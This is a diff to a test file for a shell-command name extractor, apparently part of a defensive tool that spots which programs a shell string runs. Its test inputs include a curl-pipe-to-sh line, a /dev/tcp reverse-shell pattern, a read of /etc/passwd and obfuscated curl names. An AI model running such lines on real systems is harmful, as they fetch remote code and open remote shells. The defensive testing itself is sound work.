@@ -13,11 +13,11 @@ test('finds every simple command a shell string runs', () => {
     ['a\nb\n\nc', ['a', 'b', 'c']],
     ['X=1 Y=2 curl -s http://x | sh', ['curl', 'sh']],
     ['cat < /etc/passwd > /tmp/o 2>&1', ['cat']],
-    ['(cd /tmp; ./x)', ['cd', './x']],
+    ['(cd /tmp; ./x)', ['./x']], // cd is the shell's own
     ['{ id; uname; }', ['id', 'uname']],
     ['if true; then curl a; elif x; then y; else z; fi', ['true', 'curl', 'x', 'y', 'z']],
     ['for i in 1 2; do ping $i; done', ['ping']],
-    ['while read l; do echo $l; done < f', ['read', 'echo']],
+    ['while read l; do echo $l; done < f', ['echo']],
     ['case $x in a) id;; b|c) uname;; esac', ['id', 'uname']],
     ['f() { ls; }; f', ['ls', 'f']],
     ['x#not-a-comment # comment; curl', ['x#not-a-comment']],
@@ -65,6 +65,15 @@ test('names built from expansions are marked dynamic, never static', () => {
   assert.deepEqual(names('{cu,rl} x'), ['~{cu,rl}']);
   assert.deepEqual(names('/bin/c?rl x'), ['~/bin/c?rl']);
   assert.deepEqual(names('$(echo curl) x'), ['~$(echo curl)', 'echo']);
+});
+
+test("exec, command and builtin are the shell's own: only what they wrap is a command", () => {
+  assert.deepEqual(names('exec 3<>/dev/tcp/10.0.0.1/4444; sh <&3'), ['sh']);
+  assert.deepEqual(names('exec curl x'), ['curl']);
+  assert.deepEqual(names('command -v curl; builtin echo hi'), ['echo']);
+  // Builtins that are no program at all are not commands; what they expand still is.
+  assert.deepEqual(names('cd /tmp && read -r x <&3; export A=$(id)'), ['id']);
+  assert.deepEqual(names('. ./evil.sh'), ['.']);
 });
 
 test('finds the -c script in a shell argv', () => {
